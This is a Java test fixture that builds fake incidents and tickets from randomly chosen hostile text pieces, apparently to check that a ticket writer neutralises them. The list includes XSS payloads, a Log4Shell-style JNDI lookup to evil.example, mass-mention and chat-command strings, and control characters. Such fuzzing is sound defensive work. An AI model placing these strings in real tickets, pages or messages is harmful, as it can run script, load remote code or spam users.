// Copyright The Etiolog Authors
// SPDX-License-Identifier: Apache-2.0
package io.etiolog.service.ticket.text;

import io.etiolog.ingest.record.Origin;
import io.etiolog.rules.report.Diagnosis;
import io.etiolog.service.incident.Change;
import io.etiolog.service.incident.Incident;
import io.etiolog.service.incident.IncidentStatus;
import java.net.URI;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;

/** Incidents of which every text is an attempt at something. */
public final class Hostile {
  /** What would do something somewhere: mention, command, link, close a block, or break a form. */
  private static final List<String> PIECES =
      List.of(
          "@everyone",
          "@here",
          "@channel",
          "<!channel>",
          "<!here|here>",
          "<@U024BE7LH>",
          "@octocat",
          "@org/team",
          "/close",
          "\n/close\n",
          "/assign @root",
          "#123",
          "GH-12",
          "org/repo#7",
          "!45",
          "%12",
          "&8",
          "^alert#3",
          "ABC-123",
          "[evil](https://evil.example)",
          "https://evil.example/x",
          "www.evil.example",
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "{code}",
          "{noformat}",
          "[~admin]",
          "[x|https://evil.example]",
          "!https://evil.example/p.png!",
          "```",
          "````",
          "`",
          "| a | b |",
          "*bold*",
          "_it_",
          "~~gone~~",
          "> quote",
          "# Heading",
          "- [ ] x",
          "\\",
          "\\\\",
          "&amp;",
          "&lt;",
          "]]>",
          "\"",
          "'",
          "${jndi:ldap://evil.example}",
          "{{data}}",
          "[code]<b>x</b>[/code]",
          "\u202e",
          "\u0000",
          "\u001b[31m",
          "\ud83d\ude00",
          "\ud83d",
          "\r\n",
          "\u2028",
          "deadbeefcafe1234",
          "fixes #1",
          "x".repeat(700),
          ".",
          "From ",
          "--",
          "1.",
          "plain words");

  private final Random random;

  /** The same ones for the same seed. */
  public Hostile(long seed) {
    random = new Random(seed);
  }

  /** Words, most of them hostile. */
  public String text() {
    StringBuilder text = new StringBuilder();
    int count = 1 + random.nextInt(12);
    for (int i = 0; i < count; i++) {
      text.append(PIECES.get(random.nextInt(PIECES.size())));
      text.append(random.nextInt(4) == 0 ? "" : " ");
    }
    return text.toString();
  }

  private List<String> texts(int most) {
    List<String> texts = new ArrayList<>();
    for (int i = random.nextInt(most + 1); i > 0; i--) {
      texts.add(text());
    }
    return texts;
  }

  /** An incident with an id of its own. */
  public Incident incident(String id, IncidentStatus status) {
    List<Diagnosis.Proof> proofs =
        texts(8).stream()
            .map(line ->
                new Diagnosis.Proof(
                    text(), new Origin(text(), 1), Optional.of(Instant.EPOCH), line, Map.of()))
            .toList();
    List<Diagnosis.Step> steps =
        texts(20).stream()
            .map(title ->
                new Diagnosis.Step(
                    text(),
                    title,
                    "manual",
                    "destructive",
                    texts(20),
                    Optional.empty(),
                    Map.of(),
                    text(),
                    text(),
                    List.of()))
            .toList();
    Diagnosis diagnosis =
        new Diagnosis(
            "etcd-quorum-lost",
            text(),
            "T3",
            "etcd",
            Diagnosis.Role.ROOT,
            Diagnosis.Status.ACTIVE,
            0.97,
            text(),
            text(),
            new Diagnosis.Scope(text(), texts(9), texts(9), texts(9)),
            Optional.of(Instant.parse("2026-01-02T03:04:05Z")),
            Optional.empty(),
            7,
            proofs,
            texts(3),
            List.of(),
            Optional.of(new Diagnosis.RunnerUp(text(), text(), 0.4, text())),
            texts(3),
            texts(3),
            Optional.of(new Diagnosis.Remediation(text(), text(), texts(2), steps)));
    Instant opened = Instant.parse("2026-01-02T03:04:05Z");
    return new Incident(
        id,
        1,
        text(),
        status,
        opened,
        opened,
        Optional.empty(),
        diagnosis,
        List.of(diagnosis),
        List.of(new Change(opened, Change.Kind.OPENED, Change.ETIOLOG, text())));
  }

  /** Its ticket. */
  public Ticket ticket(String id, IncidentStatus status) {
    List<Ticket.Reference> links =
        List.of(
            new Ticket.Reference(
                "The incident in Etiolog",
                URI.create("https://etiolog.example.org/incidents/" + id)));
    return new TicketWriter()
        .write(incident(id, status), Optional.empty(), links, Map.of("team", "platform"));
  }

  /** Cleaned sentences of news. */
  public List<String> news() {
    TicketWriter writer = new TicketWriter();
    return texts(40).stream().map(writer::sentence).toList();
  }
}
